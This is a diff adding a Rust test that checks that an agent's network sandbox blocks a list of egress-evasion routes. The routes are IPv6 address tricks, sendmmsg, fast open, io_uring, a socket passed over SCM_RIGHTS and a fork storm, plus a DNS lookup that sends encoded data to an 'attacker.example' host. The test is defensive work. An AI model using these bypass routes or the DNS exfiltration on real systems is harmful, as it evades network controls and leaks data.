@@ -183,6 +183,75 @@ fn routing_headers_and_ip_options_never_reach_the_wire() {
 
 /// An established connected-UDP flow (a QUIC connection, say) stops at the packet line the
 /// moment its identity is revoked.
+/// The ways out `attacks.rs` tries that would send a packet, on the wire: each is refused,
+/// and nothing but the helper's marker reaches the peer. The refused destinations are routed
+/// through the peer, so a wrong verdict would show here.
+#[test]
+fn the_attack_suites_ways_out_put_nothing_on_the_wire() {
+    let mut fx = fixture("wire-attacks");
+    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
+    // An allowed flow leaves, as a check that the capture sees the agent.
+    assert_eq!(agent.cmd(&format!("sendto udp {PEER_V4} 9000")), "ok");
+    fx.capture.until(WITHIN, |p| p.is_to(PEER_V4, 9000));
+
+    // A socket an unenrolled process made, passed in over SCM_RIGHTS, then connected by the
+    // agent: judged as the agent's.
+    let shared = fx.dir.path().join("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let pass = shared.join("pass.sock");
+    let pass = pass.to_str().unwrap();
+    assert_eq!(agent.cmd(&format!("recv-socket {pass}")), "ok");
+    assert_eq!(fx.helper.cmd(&format!("send-socket {pass}")), "ok");
+
+    let attempts = [
+        // IPv4-mapped IPv6 is judged as IPv4; IPv4-compatible IPv6 is an address no rule names.
+        format!("connect tcp ::ffff:{BEYOND_V4} 443"),
+        format!("connect tcp ::{BEYOND_V4} 443"),
+        format!("connect tcp {BEYOND_V6} 443"),
+        // Other ways to send.
+        format!("sendmmsg udp {BEYOND_V4} 5353"),
+        format!("sendmmsg udp {PEER_V4} 9002"),
+        format!("fastopen {BEYOND_V4} 443"),
+        format!("uring-connect {BEYOND_V4} 443"),
+        format!("uring-sendmsg {BEYOND_V4} 5354"),
+        format!("connect-received {BEYOND_V4} 444"),
+    ];
+    let answers: Vec<String> = attempts.iter().map(|a| agent.cmd(a)).collect();
+    let storm = agent.cmd(&format!("fork-storm 100 tcp {BEYOND_V4} 445"));
+    // DNS to a resolver beyond the peer, for a name no rule allows: the node's proxy answers
+    // REFUSED and forwards nothing.
+    let dns: Vec<String> = ["udp", "tcp"]
+        .iter()
+        .map(|mode| {
+            agent.cmd(&format!(
+                "resolve 6c65616b.attacker.example {BEYOND_V4} {mode} TXT"
+            ))
+        })
+        .collect();
+    let seen = fx.until_helper_marker(9100);
+    let table: Vec<(&String, &String)> = attempts.iter().zip(&answers).collect();
+    for (a, answer) in &table {
+        assert_eq!(answer.as_str(), "err EPERM", "{a}\n{table:#?}");
+    }
+    assert_eq!(storm, "eperm=100 other=0");
+    assert_eq!(dns, ["rcode Refused", "rcode Refused"]);
+    // Neighbour discovery and MLD are the kernel's multicast housekeeping, not the agent's.
+    for p in seen.iter().filter(|p| !p.dst.is_multicast()) {
+        assert!(
+            p.is_to(PEER_V4, 9100),
+            "a packet left for {}: {p:?}\n{table:#?}",
+            p.dst
+        );
+    }
+    // Each is a record.
+    for port in [443, 444, 445, 5353, 5354] {
+        wait_flow_where(fx.socket(), "deny", |r| {
+            r["dest"] == BEYOND_V4 && r["port"] == port && r["reason"] == "no rule allows it"
+        });
+    }
+}
+
 #[test]
 fn revocation_stops_an_established_udp_flow_on_the_wire() {
     let mut fx = fixture("wire-revoke");
